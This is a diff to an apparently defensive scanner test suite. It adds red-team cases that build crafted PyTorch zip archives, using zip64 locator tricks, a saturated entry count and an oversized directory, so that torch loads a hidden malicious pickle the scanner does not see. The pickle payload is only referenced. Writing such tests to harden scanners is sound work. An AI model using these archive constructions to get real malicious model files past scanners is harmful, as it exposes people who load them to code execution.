@@ -514,6 +514,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(round12_cases())  # red team round 12 (block at the end of this file)
     cases.extend(round13_cases())  # red team round 13 (block at the end of this file)
     cases.extend(round15_cases())  # red team round 15 (block at the end of this file)
+    cases.extend(round16_cases())  # red team round 16 (block at the end of this file)
     cases.extend(template_round7_cases())  # red team round 7 on chat templates (block at the end of this file)
     cases.extend(template_round8_cases())  # red team round 8 on chat templates (block at the end of this file)
     cases.extend(template_round9_cases())  # red team round 9 on chat templates (block at the end of this file)
@@ -1585,3 +1586,138 @@ def round15_cases() -> list[Case]:
     ]
     return cases
 # ======== END red team round 15 =========================================================================
+
+
+# ======== BEGIN red team round 16 on the scanner's readers (helper rd16) ==============================
+# The round-15 directory views beaten twice over. A: a directory torch's miniz reads with more entries than
+# limits.max_archive_members was dropped silently (the scanner's own limit, not a broken directory). B: with a
+# zip64 locator present, only zip64 readings were built; torch's miniz uses zip64 only when a record sits at the
+# locator's offset and otherwise reads the 32-bit end-record fields as they are (a count of 0xFFFF included).
+
+_R16_BENIGN_PKL = b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01K\x01s."  # {'w': 1}
+_LOCATOR = struct.Struct("<4sIQI")
+
+
+def _r16_archive(hidden: Callable[[int], tuple[bytes, dict[str, int]]]) -> tuple[bytes, int, list[tuple[str, bytes, int]]]:
+    """Benign torch-style local headers, then ``archive/data/0`` whose stored bytes are ``hidden(start)`` (``start``:
+    where those bytes begin in the file). Returns the local part, its length and the benign directory's entries."""
+    parts, pos, ents = [], 0, []
+    for name, data in _torch_members(_R16_BENIGN_PKL):
+        parts.append(_z_lh(name, data))
+        ents.append((name, data, pos))
+        pos += len(parts[-1])
+    blob, _ = hidden(pos + 30 + len("archive/data/0"))
+    parts.append(_z_lh("archive/data/0", blob))
+    ents.append(("archive/data/0", blob, pos))
+    head = b"".join(parts)
+    return head, len(head), ents
+
+
+def _r16_evil(start: int, program: bytes) -> tuple[bytearray, dict[str, int]]:
+    """16 bytes of storage, then the evil members' local headers; their offsets by name."""
+    blob, offs = bytearray(16), {}
+    for name, data in _torch_members(program):
+        offs[name] = start + len(blob)
+        blob += _z_lh(name, data)
+    return blob, offs
+
+
+def dead_locator(program: bytes = R15_PAYLOAD, locator_offset: int = 0) -> bytes:
+    """Round 15's 'comment' layout (zipfile reads the directory before the end record, torch the one at its
+    offset field, hidden in the comment of zipfile's last entry) with a zip64 locator as the last 20 bytes of
+    that comment, naming no zip64 record: both loaders read the 32-bit fields; the scanner built no view (B1).
+    The end record's count equals both directories' (the evil one repeats the benign ``data/0`` entry)."""
+    evil_ents: dict[str, int] = {}
+
+    def hidden(start: int) -> tuple[bytes, dict[str, int]]:
+        blob, offs = _r16_evil(start, program)
+        evil_ents.update(offs)
+        return bytes(blob), offs
+
+    head, P, ents = _r16_archive(hidden)
+    d0 = ents[-1]
+    cdm = b"".join(_z_cd(n, d, evil_ents[n]) for n, d in _torch_members(program)) + _z_cd(*d0)
+    loc = _LOCATOR.pack(b"PK\x06\x07", 0, locator_offset, 1)
+    M = P + sum(46 + len(n) for n, _, _ in ents)  # CD_M: right after the last entry's name, in its comment
+    cdp = b"".join(_z_cd(n, d, o + (M - P), cdm + loc if n == "archive/data/0" else b"") for n, d, o in ents)
+    E = P + len(cdp)
+    pad = b"x" * max(0, M + len(cdp) - (E + 22))  # miniz: offset + size within the file
+    return head + cdp + _z_end(len(ents), len(cdp), M, pad)
+
+
+def saturated_count(program: bytes = R15_PAYLOAD, entries: int = 0xFFFF) -> bytes:
+    """Zip64 whose record before the locator (zipfile) names the benign directory; the locator names no record,
+    so torch reads the 32-bit fields: count ``entries`` (0xFFFF) at a directory inside ``data/0`` whose first
+    entries are byte copies of the benign ones, then empty pads with the evil data.pkl after the first one (torch's
+    lookup takes that one). The old "zip64 only where saturated" view read only the copies and was deduplicated (B2)."""
+    evil_off: dict[str, int] = {}
+    crc = 0x12345678  # data/0's CRC, the same in both copies (a 1+ MiB stored member: its CRC is not checked)
+    n_benign = len(_torch_members(_R16_BENIGN_PKL)) + 1
+    pads = entries - n_benign - 1
+    pad_dir = b"".join(_z_cd(f"archive/p{i:05d}", b"", 0) for i in range(pads))
+    evil_cd_len = 46 + len("archive/data.pkl")
+
+    def d0_cd(size: int, off: int) -> bytes:
+        n = b"archive/data/0"
+        return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, crc, size, size, len(n), 0, 0, 0, 0, 0, off) + n
+
+    def hidden(start: int) -> tuple[bytes, dict[str, int]]:
+        blob = bytearray(16)
+        evil_off["archive/data.pkl"] = start + len(blob)
+        blob += _z_lh("archive/data.pkl", program)
+        evil_off["M"] = start + len(blob)
+        return bytes(blob), {}
+
+    # Two passes: the benign directory's data/0 entry holds the blob's size, and the blob holds that directory.
+    head, P, ents = _r16_archive(hidden)
+    benign_cd = b"".join(_z_cd(n, d, o) for n, d, o in ents[:-1])
+    d0_at = ents[-1][2]
+    blob_len = len(ents[-1][1]) + len(benign_cd) + len(d0_cd(0, 0)) + len(pad_dir) + evil_cd_len
+    cdp = benign_cd + d0_cd(blob_len, d0_at)
+    # Where the evil entry goes among the pads decides which of the two data.pkl torch's lookup (a binary search
+    # over the names sorted by an unstable sort) returns: after the first pad, torch 2.13 takes the evil one.
+    cut = 46 + len("archive/p00000") if pads else 0
+    cdm = cdp + pad_dir[:cut] + _z_cd("archive/data.pkl", program, evil_off["archive/data.pkl"]) + pad_dir[cut:]
+    blob = ents[-1][1] + cdm
+    assert len(blob) == blob_len
+    d0_local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, blob_len, blob_len, 14, 0) + b"archive/data/0"
+    head = head[:d0_at] + d0_local + blob
+    P = len(head)
+    loc = _LOCATOR.pack(b"PK\x06\x07", 0, 0, 1)  # no zip64 record at offset 0
+    return head + cdp + _z64(n_benign, len(cdp), P) + loc + _z_end(0xFFFF, len(cdm), evil_off["M"])
+
+
+def many_entries(program: bytes = R15_PAYLOAD, pads: int = 100_000) -> bytes:
+    """Round 15's A2 (the locator names a second zip64 record inside ``data/0``) with ``pads`` more empty entries
+    in the directory torch reads: over limits.max_archive_members, that view was dropped silently (A1)."""
+    info: dict[str, Any] = {}
+
+    def hidden(start: int) -> tuple[bytes, dict[str, int]]:
+        blob, offs = _r16_evil(start, program)
+        info["M"] = start + len(blob)
+        cdm = b"".join(_z_cd(n, d, offs[n]) for n, d in _torch_members(program))
+        cdm += b"".join(_z_cd(f"archive/p{i:06d}", b"", 0) for i in range(pads))
+        blob += cdm
+        info["Z"] = start + len(blob)
+        blob += _z64(3 + pads, len(cdm), info["M"])
+        return bytes(blob), {}
+
+    head, P, ents = _r16_archive(hidden)
+    cdp = b"".join(_z_cd(n, d, o) for n, d, o in ents)
+    loc = _LOCATOR.pack(b"PK\x06\x07", 0, info["Z"], 1)
+    return head + cdp + _z64(len(ents), len(cdp), P) + loc + _z_end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
+
+
+def round16_cases() -> list[Case]:
+    return [
+        Case("round16_zip_dead_zip64_locator", "4",
+             "a zip64 locator naming no record: torch reads the 32-bit end-record fields (round 15's two directories)",
+             "torch", CRIT, "deadloc.pt", dead_locator()),
+        Case("round16_zip_saturated_count", "4",
+             "locator names no record: torch reads count 0xFFFF literally; the first entries copy zipfile's directory",
+             "torch", CRIT, "mixed.pt", saturated_count()),
+        Case("round16_zip_many_entries", "4",
+             "the directory torch reads has more entries than limits.max_archive_members",
+             "torch", CRIT, "manycd.pt", many_entries()),
+    ]
+# ======== END red team round 16 =========================================================================
